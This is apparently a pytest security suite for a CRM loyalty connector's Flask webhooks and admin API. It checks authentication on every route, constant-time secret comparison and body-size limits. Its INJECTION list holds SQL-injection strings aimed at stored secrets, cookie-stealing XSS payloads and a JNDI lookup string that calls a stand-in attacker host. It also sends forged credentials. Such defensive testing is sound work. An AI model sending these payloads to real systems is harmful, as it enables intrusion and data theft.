"""Hostile input at the HTTP edge, across every route: authentication on everything that
changes state, secrets compared in constant time, body limits however the body arrives.

The harness here (an app with both CRMs and the admin API on, and row counts of every table)
is shared by tests/test_fuzz_receivers.py and tests/test_fuzz_api.py. What every refusal
must look like: a 4xx, JSON with `error` and `detail`, and not one row written anywhere.
"""

from __future__ import annotations

import base64
import hmac
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import func, select
from werkzeug.routing import Rule
from werkzeug.test import EnvironBuilder, TestResponse, run_wsgi_app

from connector.config import Settings
from connector.sandbox import FakeBitrix24Portal
from connector.services import Services
from connector.tables import Base
from mappings.phpquery import encode
from tests.conftest import BACKENDS, POSTGRES_URL, fresh_services, make_settings
from webhooks import create_app

ADMIN_TOKEN = "fuzz-admin-token-0123456789"
B24_TOKEN = "51856fefc120afa4b628cc82d3935cce"
B24_MEMBER = "a223c6b3710f85df22e9377d6c4f7553"
AMO_SECRET = "Wh00kSecret0123456789"
B24_ACTIONS_SECRET = "B24Act10nsSecret0123"
AMO_BASE = "https://example.amocrm.ru"
MAX_BODY = 65_536  # room for keys thousands of levels deep
FORM = "application/x-www-form-urlencoded"
JSON = "application/json"
BEARER = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
STATE_CHANGING = {"POST", "PUT", "PATCH", "DELETE"}
# Reads anyone may make: the liveness probe, the API's description, and the OAuth redirect
# (taken only with a state the connector issued; see connector.amocrm.authorization).
PUBLIC_READS = {"/healthz", "/api/v1/openapi.json", "/amocrm/oauth/callback"}
REFUSED_FOR_CREDENTIALS = {401, 403, 404}

# Strings that have broken other programs: as ids, keys, names, comments.
INJECTION = [
    "' OR '1'='1",
    "1; DROP TABLE entries; --",
    "\" OR 1=1 --",
    "1' UNION SELECT client_secret FROM crm_credentials --",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "{{7*7}}${7*7}",
    "${jndi:ldap://evil.example/a}",
    "%s%s%s%n",
    "ünïcödé ключ 鍵 🔑",
    "\u202eevil\u202c",
    "\ufeffbom",
    "a\tb\r\nc",
    "\\x00",
]


def b24_event(event: str = "ONCRMDEALUPDATE", entity: str = "759", *, token: str = B24_TOKEN,
              member: str = B24_MEMBER, domain: str = "acme.bitrix24.ru") -> str:
    return encode({"event": event, "event_handler_id": "201",
                   "data": {"FIELDS": {"ID": entity}}, "ts": "1736405807",
                   "auth": {"domain": domain, "member_id": member,
                            "application_token": token}})


def b24_robot(*, code: str = "loyalty_redeem", token: str = B24_TOKEN,
              event_token: str = "664fa13b|A40364|MS1ekdI0", domain: str = "acme.bitrix24.ru",
              properties: dict[str, Any] | None = None) -> str:
    return encode({
        "workflow_id": "664fa13bbbb410.99176768", "code": code,
        "document_id": ["crm", "CCrmDocumentDeal", "DEAL_123"],
        "document_type": ["crm", "CCrmDocumentDeal", "DEAL"], "event_token": event_token,
        "properties": properties or {"amount": "100"}, "ts": "1716494651",
        "auth": {"domain": domain, "member_id": B24_MEMBER, "application_token": token}})


def b24_placement(*, domain: str = "acme.bitrix24.ru", member: str = B24_MEMBER,
                  auth_id: str = "f" * 64) -> str:
    """The CRM tab's placement call (DOMAIN in the form here; Bitrix24 puts it in the query)."""
    return encode({"DOMAIN": domain, "PROTOCOL": "1", "LANG": "ru", "AUTH_ID": auth_id,
                   "AUTH_EXPIRES": "3600", "member_id": member, "status": "L",
                   "PLACEMENT": "CRM_CONTACT_DETAIL_TAB", "PLACEMENT_OPTIONS": '{"ID":"1"}'})


def amo_webhook(lead_id: str = "1", *, subdomain: str = "example",
                action: str = "status") -> str:
    return encode({"leads": {action: {"0": {"id": lead_id, "status_id": "142",
                                            "pipeline_id": "3104455", "price": "100"}}},
                   "account": {"subdomain": subdomain, "id": "28805383"}})


def edge_settings(tmp_path: Path, database_url: str | None) -> Settings:
    """Every receiver on: the admin API, Bitrix24 (token and member id, the "Webhook" rule's
    actions), amoCRM (OAuth, so the callback has work to do)."""
    return make_settings(
        tmp_path, database_url,
        server={"admin_token": ADMIN_TOKEN, "max_body_bytes": MAX_BODY},
        bitrix24={"enabled": True, "webhook_url": "https://acme.bitrix24.ru/rest/1/hook0001/",
                  "application_token": B24_TOKEN, "member_id": B24_MEMBER,
                  "actions_secret": B24_ACTIONS_SECRET},
        amocrm={"enabled": True, "base_url": AMO_BASE, "subdomain": "example",
                "webhook_secret": AMO_SECRET, "client_id": "integration-id",
                "client_secret": "integration-secret", "redirect_uri": "https://x.test/cb",
                # Far above what the tests send, so the limiter never makes them wait.
                "timeout_seconds": 2, "requests_per_second": 50, "burst": 250},
        # The card pages' limiter counts every /card/... request (the page and its reward
        # form alike) per client: far above what the tests send, so none is answered 429.
        card={"rate_limit": "100000/minute"},
        program={"bonuses": {"review": "50"}})


@dataclass
class Edge:
    app: Flask
    services: Services
    client: FlaskClient

    def rows(self) -> dict[str, int]:
        """Rows in every table: what "nothing stored" is measured by. The CRM budget is left
        out: a refused request that had to ask the portal (the tab's forged AUTH_ID) spends
        a request of its budget, which stores nothing of the request."""
        with self.services.db.engine.connect() as connection:
            return {table.name: connection.execute(
                select(func.count()).select_from(table)).scalar_one()
                for table in Base.metadata.sorted_tables if table.name != "crm_budgets"}

    def wsgi(self, environ: dict[str, Any]) -> tuple[int, bytes]:
        """Call the app with a hand-made environ (the test client would add Content-Length)."""
        body, status, _ = run_wsgi_app(self.app, environ)
        return int(status.split()[0]), b"".join(body)


@contextmanager
def open_edge(tmp_path: Path, database_url: str | None) -> Iterator[Edge]:
    services = fresh_services(edge_settings(tmp_path, database_url))
    app = create_app(services=services)
    try:
        yield Edge(app, services, app.test_client())
    finally:
        services.close()


def shared_edge(request: pytest.FixtureRequest,
                tmp_path_factory: pytest.TempPathFactory) -> Iterator[Edge]:
    """One app per module and backend: migrating a database per test would cost more than
    the tests. Sharing is safe because every check compares before and after one request."""
    url = POSTGRES_URL if request.param == "postgresql" else None
    with open_edge(tmp_path_factory.mktemp("edge"), url) as opened:
        yield opened


@pytest.fixture(scope="module", params=BACKENDS)
def edge(request: pytest.FixtureRequest,
         tmp_path_factory: pytest.TempPathFactory) -> Iterator[Edge]:
    yield from shared_edge(request, tmp_path_factory)


def assert_refused(response: TestResponse, statuses: set[int] | None = None) -> dict[str, Any]:
    """A 4xx (one of `statuses` when given) that says why, as JSON."""
    text = response.get_data(as_text=True)[:300]
    assert 400 <= response.status_code < 500, (response.status_code, text)
    if statuses is not None:
        assert response.status_code in statuses, (response.status_code, text)
    assert response.mimetype == JSON, (response.mimetype, text)
    body = response.get_json()
    assert isinstance(body, dict) and body.get("error") and body.get("detail"), text
    return body


def assert_nothing_stored(edge: Edge, before: dict[str, int]) -> None:
    assert edge.rows() == before


# -- authentication on every route -------------------------------------------------------
def _url(rule: Rule, method: str) -> str:
    # Forged values for whatever the rule takes: a secret that is not the secret, an action
    # that exists, "1" for anything a future rule adds.
    values = {name: {"secret": "Forged0secret0000000", "action": "bonus/review",
                     "filename": "x.js"}.get(name, "1") for name in rule.arguments}
    return rule.map.bind("localhost").build(rule.endpoint, values, method=method)


def all_rules(app: Flask) -> list[Rule]:
    return list(app.url_map.iter_rules())


# Each is well-formed for one kind of receiver, with credentials that are wrong: a route
# must refuse them all, and at least one for want of credentials (401/403/404), so a new
# route whose body none of these fits fails until a candidate for it is added here.
FORGED_REQUESTS: dict[str, dict[str, Any]] = {
    "b24-event": {"data": b24_event(token="f" * 32, member="m" * 32), "content_type": FORM},
    "b24-robot": {"data": b24_robot(token="f" * 32), "content_type": FORM},
    "amo-webhook": {"data": amo_webhook(), "content_type": FORM},
    "b24-placement": {"data": b24_placement(), "content_type": FORM},
    "b24-tab-form": {"data": encode({"form": "v1.e30.Zm9yZ2Vk", "points": "100",
                                     "reason": "forged"}), "content_type": FORM},
    "api-json": {"json": {"crm": "bitrix24", "portal": "acme", "contact_id": "1",
                          "amount": "100", "key": "forged-1", "name": "review",
                          "points": "10", "reason": "x", "source": "s"}},
    "empty": {},
}
FORGED_AUTH: list[dict[str, str]] = [
    {}, {"Authorization": "Bearer forged-token-0123456789"}, {"Authorization": ADMIN_TOKEN},
    {"Authorization": f"Basic {ADMIN_TOKEN}"},
    {"Authorization": "Basic " + base64.b64encode(b"admin:forged-password-01234").decode()},
]


def _refusal_problem(response: TestResponse, statuses: set[int] | None = None) -> str | None:
    try:
        assert_refused(response, statuses)
    except AssertionError as exc:
        return str(exc)[:200]
    return None


def unguarded_writes(edge: Edge, forged: dict[str, dict[str, Any]] | None = None
                     ) -> tuple[list[str], set[str]]:
    """Every state-changing route, sent every forged request: (what went wrong, the rules
    checked). Each answer must be a JSON 4xx, none may store anything, and at least one
    must be a refusal for want of credentials."""
    forged = FORGED_REQUESTS if forged is None else forged
    problems: list[str] = []
    checked: set[str] = set()
    for rule in all_rules(edge.app):
        for method in sorted((rule.methods or set()) & STATE_CHANGING):
            url = _url(rule, method)
            statuses = set()
            before = edge.rows()
            for name, request in forged.items():
                for headers in FORGED_AUTH:
                    response = edge.client.open(url, method=method, headers=headers, **request)
                    statuses.add(response.status_code)
                    if problem := _refusal_problem(response):
                        problems.append(f"{method} {rule.rule} [{name}, {headers}]: {problem}")
                    if ADMIN_TOKEN in response.get_data(as_text=True):
                        problems.append(f"{method} {rule.rule} [{name}]: echoes the token")
            if edge.rows() != before:
                problems.append(f"{method} {rule.rule}: stored a forged request")
            if not statuses & REFUSED_FOR_CREDENTIALS:
                problems.append(
                    f"{method} {rule.rule}: refused every forged request ({sorted(statuses)}) "
                    "but none for its credentials: add a well-formed request for it to "
                    "FORGED_REQUESTS")
            checked.add(rule.rule)
    return problems, checked


def unguarded_reads(edge: Edge) -> tuple[list[str], set[str]]:
    """Every GET route that is not public, without a valid token: (problems, rules)."""
    problems: list[str] = []
    checked: set[str] = set()
    for rule in all_rules(edge.app):
        if "GET" not in (rule.methods or set()) or rule.rule in PUBLIC_READS:
            continue
        url = _url(rule, "GET")
        for headers in FORGED_AUTH:
            response = edge.client.get(url, headers=headers)
            if problem := _refusal_problem(response, REFUSED_FOR_CREDENTIALS):
                problems.append(f"GET {rule.rule} [{headers}]: {problem}")
        checked.add(rule.rule)
    return problems, checked


def test_every_state_changing_route_refuses_requests_without_credentials(edge: Edge) -> None:
    problems, checked = unguarded_writes(edge)
    assert problems == []
    assert {"/bitrix24/events", "/bitrix24/robots", "/amocrm/webhooks/<secret>",
            "/amocrm/actions/<secret>/<path:action>", "/bitrix24/actions/<secret>/<path:action>",
            "/api/v1/accrue", "/api/v1/redeem",
            "/api/v1/adjust", "/api/v1/bonus", "/api/v1/reverse", "/api/v1/preview",
            "/bitrix24/tab", "/bitrix24/tab/change"} <= checked


def test_the_crm_tab_refuses_forgeries_in_an_app_setup(tmp_path: Path,
                                                       database_url: str) -> None:
    """The shared edge has no Bitrix24 app, so its tab routes refuse everything as
    unavailable; here an app is set up and a forged AUTH_ID of the right portal goes to that
    portal (a fake one) and is refused there."""
    with FakeBitrix24Portal() as portal:
        settings = make_settings(tmp_path, database_url, bitrix24={
            "enabled": True, "portal": portal.url, "client_id": portal.client_id,
            "client_secret": portal.client_secret, "member_id": portal.member_id,
            "timeout_seconds": 2})
        services = fresh_services(settings)
        try:
            app = create_app(services=services)
            edge = Edge(app, services, app.test_client())
            forged = {**FORGED_REQUESTS, "b24-placement": {
                "data": b24_placement(domain=portal.domain, member=portal.member_id),
                "content_type": FORM}}
            problems, checked = unguarded_writes(edge, forged)
        finally:
            services.close()
        refused = [call.status for call in portal.calls_of("profile")]
    assert problems == []
    assert {"/bitrix24/tab", "/bitrix24/tab/change"} <= checked
    assert refused and set(refused) == {401}  # the forged AUTH_IDs reached the portal alone


def test_every_read_that_is_not_public_refuses_requests_without_the_token(edge: Edge) -> None:
    """The API, /metrics, and any dashboard to come: nothing readable without the token."""
    problems, checked = unguarded_reads(edge)
    assert problems == []
    assert {"/api/v1/accounts/<crm>/<portal>/<contact_id>", "/api/v1/cards/<card_number>",
            "/api/v1/accounts/<crm>/<portal>/<contact_id>/history",
            "/bitrix24/actions/<secret>/<path:action>"} <= checked


def test_a_route_added_without_authentication_is_caught(tmp_path: Path,
                                                        database_url: str) -> None:
    """The two checks above, shown to fail for the mistake they exist to catch."""
    with open_edge(tmp_path, database_url) as edge:
        def reset() -> dict[str, str]:
            edge.services.inbox.put(source="admin", kind="reset", dedup_key="reset", body=b"")
            return {"status": "reset"}

        edge.app.add_url_rule("/admin/reset", view_func=reset, methods=["POST"])
        edge.app.add_url_rule("/report", view_func=lambda: "<h1>balances</h1>")
        writes, _ = unguarded_writes(edge)
        reads, _ = unguarded_reads(edge)
    assert any(p.startswith("POST /admin/reset") and "stored" in p for p in writes)
    assert all(p.startswith("POST /admin/reset") for p in writes)
    assert reads and all(p.startswith("GET /report") for p in reads)


def test_the_api_answers_403_while_no_admin_token_is_set(tmp_path: Path,
                                                         database_url: str) -> None:
    services = fresh_services(make_settings(tmp_path, database_url))
    client = create_app(services=services).test_client()
    try:
        for path in ("/api/v1/accrue", "/api/v1/preview"):
            # An empty bearer must not match the empty "expected" token.
            for headers in ({}, {"Authorization": "Bearer "}, {"Authorization": "Bearer  "}):
                assert_refused(client.post(path, json={"amount": "1"}, headers=headers), {403})
    finally:
        services.close()


# -- constant-time comparison -------------------------------------------------------------
AuthProbe = Callable[[Edge, str], TestResponse]


def _api(edge: Edge, forged: str) -> TestResponse:
    # preview, not an account read: an authenticated read of no account would be a 404 too
    return edge.client.post("/api/v1/preview", json={"amount": "100"},
                            headers={"Authorization": f"Bearer {forged}"})


def _b24_token(edge: Edge, forged: str) -> TestResponse:
    return edge.client.post("/bitrix24/events", data=b24_event(token=forged),
                            content_type=FORM)


def _b24_member(edge: Edge, forged: str) -> TestResponse:
    return edge.client.post("/bitrix24/events", data=b24_event(member=forged),
                            content_type=FORM)


def _amo_webhook(edge: Edge, forged: str) -> TestResponse:
    return edge.client.post(f"/amocrm/webhooks/{forged}", data=amo_webhook(),
                            content_type=FORM)


def _amo_action(edge: Edge, forged: str) -> TestResponse:
    return edge.client.post(f"/amocrm/actions/{forged}/bonus/review", data=amo_webhook(),
                            content_type=FORM)


def _b24_action(edge: Edge, forged: str) -> TestResponse:
    return edge.client.get(f"/bitrix24/actions/{forged}/bonus/review?deal_id=123")


def _metrics(edge: Edge, forged: str) -> TestResponse:
    if not any(rule.rule == "/metrics" for rule in edge.app.url_map.iter_rules()):
        pytest.skip("no /metrics route in this build")
    return edge.client.get("/metrics", headers={"Authorization": f"Bearer {forged}"})


def _dashboard(edge: Edge, forged: str) -> TestResponse:
    if not any(rule.rule == "/dashboard" for rule in edge.app.url_map.iter_rules()):
        pytest.skip("no /dashboard route in this build")
    return edge.client.get("/dashboard", auth=("admin", forged))


@pytest.mark.parametrize(("probe", "secret"), [
    (_api, ADMIN_TOKEN), (_b24_token, B24_TOKEN), (_b24_member, B24_MEMBER),
    (_amo_webhook, AMO_SECRET), (_amo_action, AMO_SECRET), (_b24_action, B24_ACTIONS_SECRET),
    (_metrics, ADMIN_TOKEN), (_dashboard, ADMIN_TOKEN),
], ids=["api-bearer", "bitrix24-token", "bitrix24-member", "amocrm-webhook",
        "amocrm-action", "bitrix24-action", "metrics-bearer", "dashboard-password"])
def test_secrets_are_compared_with_hmac_compare_digest(
        edge: Edge, monkeypatch: pytest.MonkeyPatch, probe: AuthProbe, secret: str) -> None:
    forged = "Forged0" + secret[7:]  # same length: only the content differs
    assert probe(edge, forged).status_code in REFUSED_FOR_CREDENTIALS

    real = hmac.compare_digest
    seen: list[tuple[Any, Any]] = []

    def spy(a: Any, b: Any) -> bool:
        seen.append((a, b))
        return real(a, b)

    monkeypatch.setattr(hmac, "compare_digest", spy)
    assert probe(edge, forged).status_code in REFUSED_FOR_CREDENTIALS
    assert {forged.encode(), secret.encode()} in [{bytes(a), bytes(b)} for a, b in seen]

    # The decision is compare_digest's alone: were it to say "equal", the forgery would pass.
    monkeypatch.setattr(hmac, "compare_digest", lambda a, b: True)
    assert probe(edge, forged).status_code not in REFUSED_FOR_CREDENTIALS


# -- body limits, however the body arrives ------------------------------------------------
def _over_the_limit(edge: Edge) -> list[tuple[str, dict[str, Any]]]:
    padding = "x" * MAX_BODY
    return [
        ("/bitrix24/events", {"data": b24_event() + "&pad=" + padding, "content_type": FORM}),
        ("/bitrix24/robots", {"data": b24_robot() + "&pad=" + padding, "content_type": FORM}),
        (f"/amocrm/webhooks/{AMO_SECRET}",
         {"data": amo_webhook() + "&pad=" + padding, "content_type": FORM}),
        (f"/amocrm/actions/{AMO_SECRET}/redeem/max",
         {"data": amo_webhook() + "&pad=" + padding, "content_type": FORM}),
        (f"/bitrix24/actions/{B24_ACTIONS_SECRET}/redeem/max?deal_id=123",
         {"data": "pad=" + padding, "content_type": FORM}),
        *[(f"/api/v1/{op}", {"json": {"crm": "bitrix24", "portal": "acme", "contact_id": "1",
                                      "amount": "100", "key": "k", "comment": padding},
                             "headers": BEARER})
          for op in ("accrue", "redeem", "adjust", "bonus", "reverse", "preview")],
    ]


def test_bodies_over_max_body_bytes_are_413_and_store_nothing(edge: Edge) -> None:
    for path, request in _over_the_limit(edge):
        before = edge.rows()
        body = assert_refused(edge.client.post(path, **request), {413})
        assert body["error"] == "body_too_large" and "server.max_body_bytes" in body["detail"]
        assert_nothing_stored(edge, before)


@pytest.mark.parametrize("path", ["/bitrix24/events", f"/amocrm/webhooks/{AMO_SECRET}",
                                  "/api/v1/accrue"])
def test_a_body_streamed_without_content_length_is_held_to_the_same_limit(
        edge: Edge, path: str) -> None:
    """Chunked bodies (gunicorn, the development server) carry no Content-Length: werkzeug
    then stops reading at the limit without a word, so a cut body was stored as if whole."""
    is_api = path.startswith("/api/")
    whole = (b'{"crm": "bitrix24", "portal": "acme", "contact_id": "1", "amount": "100", '
             b'"key": "chunked-1"}' if is_api else
             (b24_event() if "bitrix24" in path else amo_webhook()).encode())
    for body, accepted in ((whole, True), (whole + b" " * MAX_BODY if is_api else
                                           whole + b"&pad=" + b"x" * MAX_BODY, False)):
        environ = EnvironBuilder(path=path, method="POST", data=body,
                                 content_type=JSON if is_api else FORM,
                                 headers=BEARER if is_api else None).get_environ()
        del environ["CONTENT_LENGTH"]
        environ["wsgi.input_terminated"] = True  # what such a server promises
        before = edge.rows()
        status, answer = edge.wsgi(environ)
        if accepted:
            assert status in (200, 201), answer
            assert edge.rows() != before
        else:
            assert (status, b"body_too_large" in answer) == (413, True), answer
            assert_nothing_stored(edge, before)
